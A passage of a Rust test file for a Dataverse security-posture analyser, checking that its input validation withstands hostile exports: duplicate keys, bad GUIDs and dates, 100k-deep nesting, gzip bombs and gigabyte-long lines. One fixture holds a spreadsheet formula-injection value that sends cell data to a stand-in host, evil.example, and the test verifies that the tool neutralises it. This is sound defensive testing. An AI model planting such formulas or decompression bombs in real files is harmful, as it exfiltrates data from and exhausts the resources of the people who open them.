            "teammemberships",
            line_row(
                "teammemberships.csv",
                4,
                3,
                Some("systemuserid"),
                "the column is given twice with different values (a repeated name, or both spellings of a lookup): which one is meant is unclear",
            ),
        );
}

#[test]
fn csv_a_very_long_field_is_cut_in_the_message() {
    let mut csv = base_file("teammemberships.csv");
    csv.extend_from_slice(b"d1000000-0000-0000-0000-000000000004,");
    csv.extend(std::iter::repeat_n(b'b', 10 << 20));
    csv.push(b'\n');
    let dir = base();
    put(dir.path(), "teammemberships.csv", &csv);
    let shown = format!("expected a GUID, found \"{}…\"", "b".repeat(40));
    validate(dir.path())
        .expect(0, "teammemberships", "partial", 3, 1, 1)
        .has(
            "teammemberships",
            line_row("teammemberships.csv", 5, 2, Some("systemuserid"), &shown),
        );
}

/// The base export with a 5 MiB user name (UPN) for Ada, a System Administrator.
fn very_long_upn() -> tempfile::TempDir {
    let long = "D".repeat(5 << 20);
    let from = r#""domainname": "ada.admin@fabrikam.com""#;
    edited("systemusers.json", from, &format!(r#""domainname": "{long}""#)).0
}

#[test]
fn json_a_very_long_value_is_data() {
    validate(very_long_upn().path()).expect(0, "systemusers", "read", 7, 0, 0);
}

#[test]
fn html_stays_bounded_with_a_very_long_user_name() {
    let dir = very_long_upn();
    let (r, out) = analyze(dir.path(), "html");
    assert_eq!(r.code, 0, "{}", r.stderr);
    let size = std::fs::metadata(out.join("report.html")).unwrap().len();
    assert!(
        size <= dvposture::report::html::MAX_PAGE_BYTES as u64,
        "report.html is {size} bytes"
    );
}

#[test]
fn csv_a_formula_in_a_name_is_neutralized_in_every_csv() {
    let dir = with_fixture("formula-in-name");
    validate(dir.path()).expect(0, "systemusers", "read", 7, 0, 0);
    let (r, out) = analyze(dir.path(), "csv");
    assert_eq!(r.code, 0, "{}", r.stderr);
    let findings = std::fs::read_to_string(out.join("findings.csv")).unwrap();
    let mut rows = csv::Reader::from_reader(findings.as_bytes());
    let cleo = rows
        .records()
        .map(Result::unwrap)
        .find(|r| {
            r.get(4) == Some("b1000000-0000-0000-0000-000000000003") && r.get(1) == Some("disabled-user-with-access")
        })
        .expect("the disabled user's finding");
    assert_eq!(
        cleo.get(5),
        Some(r#"'=HYPERLINK("https://evil.example/?x="&A1,"Cleo")"#),
        "subject_name"
    );
    assert!(
        cleo.get(6).unwrap().starts_with("'=HYPERLINK("),
        "message: {:?}",
        cleo.get(6)
    );
    let review = std::fs::read_to_string(out.join("access-review.csv")).unwrap();
    let mut rows = csv::Reader::from_reader(review.as_bytes());
    let headers = rows.headers().unwrap().clone();
    let ada = rows
        .records()
        .map(Result::unwrap)
        .find(|r| r.get(2) == Some("b1000000-0000-0000-0000-000000000001"))
        .expect("Ada's review row");
    let col = |name: &str| {
        ada.get(headers.iter().position(|h| h == name).unwrap())
            .unwrap()
            .to_string()
    };
    assert_eq!(col("user"), "'-2+3@fabrikam.com");
    assert_eq!(col("fullname"), "'+1-1 Ada");
    for file in ["findings.csv", "access-review.csv"] {
        let text = std::fs::read_to_string(out.join(file)).unwrap();
        for cell in csv::Reader::from_reader(text.as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{file}: {cell:?} would run as a formula"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------------------------
// Duplicate keys and rows

#[test]
fn json_a_key_repeated_with_the_same_value_is_harmless() {
    let (dir, _) = edited(
        "systemusers.json",
        r#""isdisabled": false"#,
        r#""isdisabled": false, "isdisabled": false"#,
    );
    validate(dir.path()).expect(0, "systemusers", "read", 7, 0, 0);
}

#[test]
fn json_a_key_repeated_with_another_value_skips_the_row() {
    let (dir, text) = edited(
        "systemusers.json",
        r#""isdisabled": false"#,
        r#""isdisabled": true, "isdisabled": false"#,
    );
    let v = validate(dir.path());
    v.expect(0, "systemusers", "partial", 6, 1, 1);
    let at = find(&text, br#""isdisabled": false"#).unwrap();
    let problem = &v.table("systemusers")["problems"][0];
    assert_eq!(
        (problem["line"].as_u64(), problem["field"].as_str()),
        (Some(position(&text, at).0), Some("isdisabled")),
        "{problem:#}"
    );
}

#[test]
fn json_both_spellings_of_a_lookup_with_different_ids_skip_the_row() {
    let (dir, text) = edited(
        "systemusers.json",
        r#""_businessunitid_value": "a1000000-0000-0000-0000-000000000001""#,
        r#""_businessunitid_value": "a1000000-0000-0000-0000-000000000001", "businessunitid": "a1000000-0000-0000-0000-000000000002""#,
    );
    validate(dir.path())
        .expect(0, "systemusers", "partial", 6, 1, 1)
        .has(
            "systemusers",
            json_row(
                "systemusers.json",
                value_at(&text, r#""businessunitid": "a1000000-0000-0000-0000-000000000002""#),
                "$.value[0]",
                "businessunitid",
                "the column is given twice with different values (a repeated name, or both spellings of a lookup): which one is meant is unclear",
            ),
        );
}

#[test]
fn json_a_key_repeated_with_another_value_skips_the_row_in_ndjson_too() {
    // NDJSON rows go through the fast one-pass reader first: the outcome is the same.
    let (dir, text) = edited("audits.ndjson", r#""action": 2,"#, r#""action": 2, "action": 3,"#);
    let (line, column) = value_at(&text, r#""action": 3"#);
    validate(dir.path()).expect(0, "audits", "partial", 25, 1, 1).has(
        "audits",
        line_row(
            "audits.ndjson",
            line,
            column,
            Some("action"),
            "the column is given twice with different values (a repeated name, or both spellings of a lookup): which one is meant is unclear",
        ),
    );
    let (dir, _) = edited(
        "audits.ndjson",
        r#""action": 2,"#,
        r#""action": null, "action": 2, "action": 2, "action": null,"#,
    );
    validate(dir.path()).expect(0, "audits", "read", 26, 0, 0);
}

/// A base page with its first row written twice (the copy changed by `change`, when given),
/// and the position where the copy starts.
fn first_row_twice(file: &str, change: Option<(&str, &str)>) -> (Vec<u8>, (u64, u64)) {
    let text = String::from_utf8(base_file(file)).unwrap();
    let start = text.find("\n  {").unwrap() + 1;
    let end = text[start..].find("\n  }").unwrap() + start + 4;
    let mut copy = text[start..end].to_string();
    if let Some((from, to)) = change {
        assert!(copy.contains(from));
        copy = copy.replacen(from, to, 1);
    }
    let mut out = text[..end].to_string();
    out.push_str(",\n");
    let at = out.len() + 2;
    out.push_str(&copy);
    out.push_str(&text[end..]);
    let at = position(out.as_bytes(), at);
    (out.into_bytes(), at)
}

#[test]
fn an_identical_duplicate_row_in_one_page_is_dropped_and_counted() {
    let dir = base();
    let (text, at) = first_row_twice("teams.json", None);
    put(dir.path(), "teams.json", &text);
    validate(dir.path()).expect(0, "teams", "partial", 4, 1, 1).has(
        "teams",
        P {
            file: "teams.json",
            line: Some(at.0),
            column: Some(at.1),
            path: Some("$.value[1]"),
            field: None,
            kind: "duplicate_row",
            message: "identical copy of team d1000000-0000-0000-0000-000000000001 dropped (overlapping pages?)",
        },
    );
}

#[test]
fn conflicting_rows_for_one_role_id_stop_the_run() {
    let dir = base();
    let (text, at) = first_row_twice("roles.json", Some((r#""ismanaged": true"#, r#""ismanaged": false"#)));
    put(dir.path(), "roles.json", &text);
    validate(dir.path()).expect(2, "roles", "read", 10, 0, 1).fatal(P {
        file: "roles.json",
        line: Some(at.0),
        column: Some(at.1),
        path: Some("$.value[1]"),
        field: None,
        kind: "fatal",
        message: "role c1000000-0000-0000-0000-000000000001 has two different rows; an id must be unique",
    });
}

#[test]
fn conflicting_rows_for_one_profile_id_keep_the_first() {
    let dir = base();
    let (text, at) = first_row_twice(
        "fieldsecurityprofiles.json",
        Some((r#""name": "Sales secure""#, r#""name": "Sales secure (copy)""#)),
    );
    put(dir.path(), "fieldsecurityprofiles.json", &text);
    validate(dir.path())
        .expect(0, "fieldsecurityprofiles", "partial", 1, 1, 1)
        .has(
            "fieldsecurityprofiles",
            P {
                file: "fieldsecurityprofiles.json",
                line: Some(at.0),
                column: Some(at.1),
                path: Some("$.value[1]"),
                field: None,
                kind: "skipped_row",
                message:
                    "field security profile f2000000-0000-0000-0000-000000000001 has two different rows; the first one is kept",
            },
        );
}

// ---------------------------------------------------------------------------------------------------------------
// Privilege depth masks and access rights masks

fn depth_mask(value: &str) -> Validation {
    let (dir, _) = edited(
        "roleprivilegescollection.json",
        r#""privilegedepthmask": 8"#,
        &format!(r#""privilegedepthmask": {value}"#),
    );
    validate(dir.path())
}

fn depth_problem(v: &Validation, message: &str) {
    v.expect(0, "roleprivilegescollection", "partial", 61, 1, 1).has(
        "roleprivilegescollection",
        json_row(
            "roleprivilegescollection.json",
            (7, 26),
            "$.value[0]",
            "privilegedepthmask",
            message,
        ),
    );
}

#[test]
fn depth_mask_negative() {
    depth_problem(
        &depth_mask("-1"),
        "malformed depth mask -1: expected 1 Basic, 2 Local, 4 Deep or 8 Global in its low bits",
    );
}

#[test]
fn depth_mask_two_to_the_40_has_no_depth_bit() {
    depth_problem(
        &depth_mask("1099511627776"),
        "malformed depth mask 1099511627776: expected 1 Basic, 2 Local, 4 Deep or 8 Global in its low bits",
    );
}

#[test]
fn depth_mask_with_high_flag_bits_keeps_its_low_bits() {
    // INPUT.md: take mask & 0x0F and its highest bit.
    depth_mask("1099511627784").expect(0, "roleprivilegescollection", "read", 62, 0, 0);
}

#[test]
fn depth_mask_1e308() {
    depth_problem(
        &depth_mask("1e308"),
        r#"expected a depth mask (1, 2, 4, 8) or Basic, Local, Deep, Global, found "1e308""#,
    );
}

#[test]
fn depth_mask_abc() {
    depth_problem(
        &depth_mask(r#""abc""#),
        r#"expected a depth mask (1, 2, 4, 8) or Basic, Local, Deep, Global, found "abc""#,
    );
}

#[test]
fn depth_mask_object() {
    depth_problem(
        &depth_mask(r#"{"Value": 8}"#),
        r#"expected a depth mask (1, 2, 4, 8) or Basic, Local, Deep, Global, found "{\"Value\": 8}""#,
    );
}

#[test]
fn depth_mask_label_in_the_admin_ui_spelling() {
    depth_mask(r#"" organization ""#).expect(0, "roleprivilegescollection", "read", 62, 0, 0);
}

fn rights_mask(value: &str) -> Validation {
    let (dir, _) = edited(
        "principalobjectaccessset.json",
        r#""accessrightsmask": 3"#,
        &format!(r#""accessrightsmask": {value}"#),
    );
    validate(dir.path())
}

fn rights_problem(v: &Validation, message: &str) {
    v.expect(0, "principalobjectaccessset", "partial", 2, 1, 1).has(
        "principalobjectaccessset",
        json_row(
            "principalobjectaccessset.json",
            (10, 24),
            "$.value[0]",
            "accessrightsmask",
            message,
        ),
    );
}

#[test]
fn rights_mask_negative_is_a_signed_32_bit_mask() {
    // Stored as a signed 32-bit integer: -1 is every bit, masked to the rights.
    rights_mask("-1").expect(0, "principalobjectaccessset", "read", 3, 0, 0);
}

#[test]
fn rights_mask_two_to_the_40_is_out_of_range() {
    rights_problem(
        &rights_mask("1099511627776"),
        "access rights mask 1099511627776 is out of range",
    );
}

#[test]
fn rights_mask_1e308() {
    rights_problem(&rights_mask("1e308"), r#"expected an integer, found "1e308""#);
}

#[test]
fn rights_mask_abc() {
    rights_problem(&rights_mask(r#""abc""#), r#"expected an integer, found "abc""#);
}

// ---------------------------------------------------------------------------------------------------------------
// Option sets

fn team_type(value: &str) -> (Validation, (u64, u64)) {
    let (dir, text) = edited("teams.json", r#""teamtype": 0"#, &format!(r#""teamtype": {value}"#));
    (
        validate(dir.path()),
        value_at(&text, &format!(r#""teamtype": {value}"#)),
    )
}

#[test]
fn option_set_unknown_value() {
    let (v, at) = team_type("7");
    v.expect(0, "teams", "partial", 3, 1, 1).has(
        "teams",
        json_row(
            "teams.json",
            at,
            "$.value[0]",
            "teamtype",
            "unknown team type 7 (expected 0 Owner, 1 Access, 2 or 3 Microsoft Entra group)",
        ),
    );
}

#[test]
fn option_set_unknown_label() {
    let (v, at) = team_type(r#""Bogus""#);
    v.expect(0, "teams", "partial", 3, 1, 1).has(
        "teams",
        json_row(
            "teams.json",
            at,
            "$.value[0]",
            "teamtype",
            r#"expected a number or one of Owner, Access, Microsoft Entra security group, Microsoft Entra ID Security Group, AAD Security Group, Security Group, Microsoft 365 group, Microsoft Entra ID Office Group, AAD Office Group, Office Group, found "Bogus""#,
        ),
    );
}

#[test]
fn option_set_older_label_trimmed_any_case() {
    team_type(r#"" aad security GROUP ""#)
        .0
        .expect(0, "teams", "read", 4, 0, 0);
}

#[test]
fn option_set_value_out_of_its_list_in_csv() {
    let (dir, _) = edited("fieldpermissions.csv", "creditlimit,4,0,0,0", "creditlimit,2,0,0,0");
    validate(dir.path())
        .expect(0, "fieldpermissions", "partial", 0, 1, 1)
        .has(
            "fieldpermissions",
            line_row(
                "fieldpermissions.csv",
                2,
                5,
                Some("canread"),
                "expected 0 (Not Allowed) or 4 (Allowed), found 2",
            ),
        );
}

// ---------------------------------------------------------------------------------------------------------------
// GUIDs (INPUT.md: case-insensitive, with or without braces; empty, null and all zeros mean no value)

fn team_id(value: &str) -> (Validation, (u64, u64)) {
    let from = r#""teamid": "d1000000-0000-0000-0000-000000000002""#;
    let to = format!(r#""teamid": {value}"#);
    let (dir, text) = edited("teams.json", from, &to);
    (validate(dir.path()), value_at(&text, &to))
}

fn bad_team_id(value: &str, message: &str) {
    let (v, at) = team_id(value);
    v.expect(0, "teams", "partial", 3, 1, 1)
        .has("teams", json_row("teams.json", at, "$.value[1]", "teamid", message));
}

#[test]
fn guid_upper_case_and_braces_are_the_same_id() {
    // The memberships and roles of team ...02 still resolve: no dangling reference.
    let (v, _) = team_id(r#""{D1000000-0000-0000-0000-000000000002}""#);
    v.expect(0, "teams", "read", 4, 0, 0);
    assert_eq!(v.json["dangling_references"], json!([]));
}

#[test]
fn guid_without_dashes_is_accepted() {
    let (v, _) = team_id(r#""d1000000000000000000000000000002""#);
    v.expect(0, "teams", "read", 4, 0, 0);
    assert_eq!(v.json["dangling_references"], json!([]));
}

#[test]
fn guid_too_short() {
    bad_team_id(
        r#""d1000000-0000-0000-0000-00000000002""#,
        r#"expected a GUID, found "d1000000-0000-0000-0000-00000000002""#,
    );
}

#[test]
fn guid_with_one_brace() {
    bad_team_id(
        r#""{d1000000-0000-0000-0000-000000000002""#,
        r#"expected a GUID, found "{d1000000-0000-0000-0000-000000000002""#,
    );
}

#[test]
fn guid_in_parentheses() {
    bad_team_id(
        r#""(d1000000-0000-0000-0000-000000000002)""#,
        r#"expected a GUID, found "(d1000000-0000-0000-0000-000000000002)""#,
    );
}

#[test]
fn guid_with_a_non_hex_digit() {
    bad_team_id(
        r#""d1000000-0000-0000-0000-0000000000zz""#,
        r#"expected a GUID, found "d1000000-0000-0000-0000-0000000000zz""#,
    );
}

#[test]
fn guid_all_zeros_in_a_required_column_is_missing() {
    bad_team_id(r#""00000000-0000-0000-0000-000000000000""#, "required value is missing");
}

// ---------------------------------------------------------------------------------------------------------------
// Dates

fn audit_created(value: &str, message: &str) {
    let (dir, text) = edited(
        "audits.ndjson",
        r#""createdon": "2026-11-10T08:00:00Z""#,
        &format!(r#""createdon": {value}"#),
    );
    let (line, column) = value_at(&text, &format!(r#""createdon": {value}"#));
    validate(dir.path()).expect(0, "audits", "partial", 25, 1, 1).has(
        "audits",
        line_row("audits.ndjson", line, column, Some("createdon"), message),
    );
}

#[test]
fn date_month_13_day_45() {
    audit_created(
        r#""2026-13-45""#,
        r#"expected an ISO 8601 date and time, found "2026-13-45""#,
    );
}

#[test]
fn date_29_february_of_a_common_year() {
    audit_created(
        r#""2026-02-29T00:00:00Z""#,
        r#"expected an ISO 8601 date and time, found "2026-02-29T00:00:00Z""#,
    );
}

#[test]
fn date_empty_in_a_required_column() {
    audit_created(r#""""#, "required value is missing");
}

#[test]
fn date_as_a_number() {
    audit_created(
        "1700000000",
        r#"expected an ISO 8601 date and time, found "1700000000""#,
    );
}

#[test]
fn date_as_an_object() {
    audit_created(
        r#"{"$date": 1}"#,
        r#"expected an ISO 8601 date and time, found "{\"$date\": 1}""#,
    );
}

// ---------------------------------------------------------------------------------------------------------------
// Deep nesting (serde_json's recursion limit is 128; skipping a value is iterative)

fn nested(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

#[test]
fn nesting_100k_deep_in_an_unknown_column_is_skipped_over() {
    let (dir, _) = edited(
        "teams.json",
        r#""name": "Sales","#,
        &format!(r#""name": "Sales", "x": {},"#, nested(100_000)),
    );
    validate(dir.path()).expect(0, "teams", "read", 4, 0, 0);
}

#[test]
fn nesting_100k_deep_in_a_known_column() {
    let to = format!(r#""name": {}"#, nested(100_000));
    let (dir, text) = edited("teams.json", r#""name": "Sales""#, &to);
    let shown = format!("expected a text value, found \"{}…\"", "[".repeat(40));
    validate(dir.path()).expect(0, "teams", "partial", 3, 1, 1).has(
        "teams",
        json_row("teams.json", value_at(&text, &to[..20]), "$.value[1]", "name", &shown),
    );
}

#[test]
fn nesting_100k_deep_in_an_expansion() {
    let to = format!(r#""name": "Sales", "teamroles_association": {},"#, nested(100_000));
    let (dir, text) = edited("teams.json", r#""name": "Sales","#, &to);
    let at = find(&text, b"\"teamroles_association\": [").unwrap() + "\"teamroles_association\": ".len();
    let shown = format!("expected an array of objects, found \"{}…\"", "[".repeat(40));
    validate(dir.path()).expect(0, "teams", "partial", 3, 1, 1).has(
        "teams",
        json_row(
            "teams.json",
            position(&text, at),
            "$.value[1]",
            "teamroles_association",
            &shown,
        ),
    );
}

#[test]
fn nesting_100k_deep_as_an_ndjson_line() {
    let mut nd = nested(100_000).into_bytes();
    nd.push(b'\n');
    nd.extend(base_file("audits.ndjson"));
    let dir = base();
    put(dir.path(), "audits.ndjson", &nd);
    validate(dir.path()).expect(0, "audits", "partial", 26, 1, 1).has(
        "audits",
        line_row(
            "audits.ndjson",
            1,
            1,
            None,
            "invalid type: sequence, expected a JSON object (one row)",
        ),
    );
}

#[test]
fn nesting_100k_deep_as_the_whole_single_object_file() {
    let dir = base();
    put(dir.path(), "environment.json", nested(100_000).as_bytes());
    validate(dir.path()).expect(0, "environment", "missing", 0, 0, 1).has(
        "environment",
        unreadable(
            "environment.json",
            Some((1, 128)),
            "invalid JSON: recursion limit exceeded",
        ),
    );
}

#[test]
fn nesting_100k_deep_as_the_whole_page() {
    let dir = base();
    put(
        dir.path(),
        "teams.json",
        format!(r#"{{"value": {}}}"#, nested(100_000)).as_bytes(),
    );
    validate(dir.path()).expect(2, "teams", "partial", 0, 1, 6).has(
        "teams",
        P {
            file: "teams.json",
            line: Some(1),
            column: Some(12),
            path: Some("$.value[0]"),
            field: None,
            kind: "skipped_row",
            message: "invalid type: sequence, expected a JSON object (one row)",
        },
    );
}

// ---------------------------------------------------------------------------------------------------------------
// gzip

fn gzip_bytes(bytes: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(bytes).unwrap();
    enc.finish().unwrap()
}

#[test]
fn gzip_truncated_json() {
    let dir = base();
    let gz = gzip_bytes(&base_file("teams.json"));
    put(dir.path(), "teams.json.gz", &gz[..gz.len() / 2]);
    validate(dir.path()).expect(0, "teams", "missing", 0, 0, 1).has(
        "teams",
        unreadable("teams.json.gz", None, "cannot read the file: incomplete deflate stream"),
    );
}

#[test]
fn gzip_truncated_ndjson_names_the_line_it_stopped_at() {
    let dir = base();
    let gz = gzip_bytes(&base_file("audits.ndjson"));
    put(dir.path(), "audits.ndjson.gz", &gz[..gz.len() - 30]);
    let v = validate(dir.path());
    v.expect(0, "audits", "missing", 0, 0, 1);
    let p = &v.table("audits")["problems"][0];
    assert_eq!(
        (&p["file"], &p["kind"], &p["message"]),
        (
            &json!("audits.ndjson.gz"),
            &json!("unreadable_file"),
            &json!("cannot read the file: incomplete deflate stream")
        )
    );
    assert!(p["line"].as_u64().is_some_and(|l| l > 1), "{p}");
}

#[test]
fn gzip_truncated_csv() {
    let dir = base();
    let gz = gzip_bytes(&base_file("teammemberships.csv"));
    put(dir.path(), "teammemberships.csv.gz", &gz[..gz.len() - 10]);
    validate(dir.path())
        .expect(0, "teammemberships", "missing", 0, 0, 1)
        .has(
            "teammemberships",
            unreadable(
                "teammemberships.csv.gz",
                None,
                "malformed CSV: incomplete deflate stream",
            ),
        );
}

#[test]
fn gzip_name_on_a_file_that_is_not_gzip() {
    let dir = base();
    put(dir.path(), "systemusers.json.gz", &base_file("systemusers.json"));
    validate(dir.path())
        .expect(2, "systemusers", "missing", 0, 0, 2)
        .fatal(unreadable(
            "systemusers.json.gz",
            None,
            "cannot read the file: invalid gzip header",
        ));
}

#[test]
fn gzip_with_a_wrong_checksum() {
    let dir = base();
    let mut gz = gzip_bytes(&base_file("teams.json"));
    let crc = gz.len() - 8;
    gz[crc] ^= 0xFF;
    put(dir.path(), "teams.json.gz", &gz);
    validate(dir.path()).expect(0, "teams", "missing", 0, 0, 1).has(
        "teams",
        unreadable(
            "teams.json.gz",
            None,
            "cannot read the file: corrupt gzip stream does not have a matching checksum",
        ),
    );
}

/// A gzip file of `members` members of `chunk` (a multi-member file, as pigz writes), between `head` and `tail`.
fn gzip_repeated(path: &Path, head: &[u8], chunk: &[u8], members: usize, tail: &[u8]) {
    let one = gzip_bytes(chunk);
    let mut f = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
    f.write_all(&gzip_bytes(head)).unwrap();
    for _ in 0..members {
        f.write_all(&one).unwrap();
    }
    f.write_all(&gzip_bytes(tail)).unwrap();
    f.flush().unwrap();
}

const TOO_LARGE: &str =
    "the file decompresses to more than 2048 MiB; export it in pages (NAME.2.json, ...) or as NDJSON";

#[test]
fn gzip_bomb_json_is_refused_in_bounded_memory() {
    let dir = base();
    std::fs::remove_file(dir.path().join("teams.json")).unwrap();
    // 4 GiB of spaces inside a page, from a 4 MiB file.
    gzip_repeated(
        &dir.path().join("teams.json.gz"),
        br#"{"value": ["#,
        &vec![b' '; 64 << 20],
        64,
        b"]}",
    );
    assert!(std::fs::metadata(dir.path().join("teams.json.gz")).unwrap().len() < 16 << 20);
    let start = std::time::Instant::now();
    let (r, peak) = dvposture_measured(&["validate", "--json", dir.path().to_str().unwrap()]);
    eprintln!(
        "gzip bomb (.json.gz, 4 GiB): {:.1}s, peak RSS {} MiB",
        start.elapsed().as_secs_f64(),
        peak >> 20
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let teams = v["inputs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["table"] == "teams")
        .unwrap();
    assert_eq!(teams["status"], "missing");
    assert_eq!(
        teams["problems"][0],
        unreadable("teams.json.gz", None, TOO_LARGE).json()
    );
    assert!(peak < MEMORY_BOUND, "peak RSS {} MiB", peak >> 20);
}

#[test]
fn gzip_bomb_utf16_csv_is_refused_in_bounded_memory() {
    // A UTF-16 CSV is decoded whole: its size is checked before it is read.
    let dir = base();
    let name = dir.path().join("teammemberships.csv.gz");
    std::fs::remove_file(dir.path().join("teammemberships.csv")).unwrap();
    gzip_repeated(&name, &[0xFF, 0xFE, b'a', 0], &vec![0u8; 64 << 20], 40, b"");
    let (r, peak) = dvposture_measured(&["validate", "--json", dir.path().to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let table = v["inputs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["table"] == "teammemberships")
        .unwrap();
    assert_eq!(
        table["problems"][0],
        unreadable("teammemberships.csv.gz", None, TOO_LARGE).json()
    );
    assert!(peak < MEMORY_BOUND, "peak RSS {} MiB", peak >> 20);
}

#[test]
fn csv_a_1_gib_field_is_skipped_in_bounded_memory() {
    let dir = base();
    let name = dir.path().join("teammemberships.csv.gz");
    std::fs::remove_file(dir.path().join("teammemberships.csv")).unwrap();
    // The long record starts on line 3; its quoted field holds two line breaks (CRLF, then LF).
    gzip_repeated(
        &name,
        b"teamid,systemuserid\r\nd1000000-0000-0000-0000-000000000004,b1000000-0000-0000-0000-000000000002\r\n\
          d1000000-0000-0000-0000-000000000004,\"\r\n",
        &vec![b'b'; 64 << 20],
        16,
        b"\n\"\r\nd1000000-0000-0000-0000-000000000003,b1000000-0000-0000-0000-000000000003\r\n",
    );
    let (r, peak) = dvposture_measured(&["validate", "--json", dir.path().to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let table = v["inputs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["table"] == "teammemberships")
        .unwrap();
    assert_eq!(
        (&table["status"], &table["rows"], &table["skipped"]),
        (&json!("partial"), &json!(2), &json!(1)),
        "{table:#}"
    );
    assert_eq!(
        table["problems"][0],
        line_row(
            "teammemberships.csv.gz",
            3,
            1,
            None,
            "record longer than 64 MiB skipped"
        )
        .json()
    );
    assert!(peak < MEMORY_BOUND, "peak RSS {} MiB", peak >> 20);
}

/// NDJSON: a 1 GiB line (written in 1 MiB pieces) between two good rows. It is skipped and reported with its
/// line number, the rows around it are read, and memory stays bounded (lines are cut at 64 MiB).
#[test]
fn ndjson_a_1_gib_line_is_skipped_in_bounded_memory() {
    let dir = base();
    let path = dir.path().join("audits.ndjson");
    let start = std::time::Instant::now();
    {
        let mut f = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
        let row = br#"{"createdon": "2026-11-10T08:00:00Z", "action": 64}"#;
        f.write_all(row).unwrap();
        f.write_all(b"\n{\"createdon\": \"2026-11-10T08:00:00Z\", \"action\": 64, \"x\": \"")
            .unwrap();
        let piece = vec![b'a'; 1 << 20];
        for _ in 0..1024 {
            f.write_all(&piece).unwrap();
        }
        f.write_all(b"\"}\n").unwrap();
        f.write_all(row).unwrap();
        f.write_all(b"\n").unwrap();
        f.flush().unwrap();
    }
    let written = start.elapsed();
    let (r, peak) = dvposture_measured(&["validate", "--json", dir.path().to_str().unwrap()]);
    eprintln!(
        "1 GiB NDJSON line: written in {:.1}s, validated in {:.1}s, peak RSS {} MiB",
        written.as_secs_f64(),
        (start.elapsed() - written).as_secs_f64(),
        peak >> 20
    );
    std::fs::remove_file(&path).unwrap();
    assert_eq!(r.code, 0, "{}", r.stderr);
    let v: Value = serde_json::from_str(&r.stdout).unwrap();
    let audits = v["inputs"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["table"] == "audits")
        .unwrap();
    assert_eq!(
        (&audits["status"], &audits["rows"], &audits["skipped"]),
        (&json!("partial"), &json!(2), &json!(1))
    );
    assert_eq!(
        audits["problems"][0],
        line_row("audits.ndjson", 2, 1, None, "line longer than 64 MiB skipped").json()
    );
    assert!(peak < MEMORY_BOUND, "peak RSS {} MiB", peak >> 20);
}

// ---------------------------------------------------------------------------------------------------------------
// Other shapes

#[test]
fn a_web_api_error_body_saved_as_a_table_stops_the_run() {
    let required = "required column is missing from every row: add it to the export's $select or header";
    validate(with_fixture("webapi-error").path())
        .expect(2, "principalobjectaccessset", "partial", 0, 1, 5)
        .fatal(P {
            field: Some("objectid"),
            ..unreadable("principalobjectaccessset.json", None, required)
        });
}

#[test]
fn a_page_of_scalars_skips_each_row() {
    let dir = base();
    put(dir.path(), "teammemberships.json", br#"[1, true, "x", null]"#);
    let v = validate(dir.path());
    v.expect(2, "teammemberships", "partial", 0, 4, 6).has(
        "teammemberships",
        P {
            file: "teammemberships.json",
            line: Some(1),
            column: Some(5),
            path: Some("$[1]"),
            field: None,
            kind: "skipped_row",
            message: "invalid type: boolean `true`, expected a JSON object (one row)",
        },
    );
}

#[test]
fn attributes_of_the_wrong_shape_do_not_quote_serde_internals() {
    let (dir, text) = edited(
        "entitydefinitions.json",
        r#""Attributes": ["#,
        r#""Attributes": ["x", "#,
    );
    validate(dir.path())
        .expect(0, "entitydefinitions", "partial", 5, 1, 1)
        .has(
            "entitydefinitions",
            json_row(
                "entitydefinitions.json",
                value_at(&text, r#""Attributes": ["x""#),
                "$.value[0]",
                "attributes",
                "expected an array of {LogicalName, IsAuditEnabled}: invalid type, expected an object {LogicalName, IsAuditEnabled}",
            ),
        );
}

#[test]
fn customer_insights_of_the_wrong_shape_is_positioned() {
    let (dir, text) = edited("customerinsights.json", r#""enabled": true"#, r#""enabled": "maybe""#);
    let (line, column) = value_at(&text, r#""enabled": "maybe""#);
    validate(dir.path())
        .expect(0, "customerinsights", "missing", 0, 0, 1)
        .has(
            "customerinsights",
            unreadable(
                "customerinsights.json",
                Some((line, column + r#""maybe""#.len() as u64 - 1)),
                "unexpected shape: invalid type, expected a boolean",
            ),
        );
}

#[test]
fn ndjson_a_syntax_error_is_reported_where_it_is() {
    let line = r#"{"createdon": "2026-11-10T08:00:00Z", "action": 64,, "x": 1}"#;
    let dir = base();
    put(dir.path(), "audits.ndjson", format!("{line}\n").as_bytes());
    validate(dir.path()).has(
        "audits",
        line_row(
            "audits.ndjson",
            1,
            line.find(",,").unwrap() as u64 + 2,
            None,
            "key must be a string",
        ),
    );
}

// ---------------------------------------------------------------------------------------------------------------
// A hostile config file (`--config`): errors with their position, never a crash

fn analyze_with_config(config: &str) -> Run {
    let dir = base();
    let path = dir.path().join("hostile.toml");
    std::fs::write(&path, config).unwrap();
    dvposture(&[
        "analyze",
        dir.path().to_str().unwrap(),
        "--out",
        dir.path().join("out").to_str().unwrap(),
        "--config",
        path.to_str().unwrap(),
    ])
}

#[test]
fn config_a_threshold_too_large_to_compute_with_is_an_error() {
    // dormant_days is turned into seconds: i64::MAX days used to overflow (a panic in a debug build).
    let r = analyze_with_config("[rules.dormant-privileged-account]\ndormant_days = 9223372036854775807\n");
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("hostile.toml:2:16: dormant-privileged-account.dormant_days must be at most 4294967295"),
        "{}",
        r.stderr
    );
}

#[test]
fn config_a_non_finite_ratio_is_an_error() {
    let r = analyze_with_config("[rules.system-administrator-role-copied]\nmin_sysadmin_share = inf\n");
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(
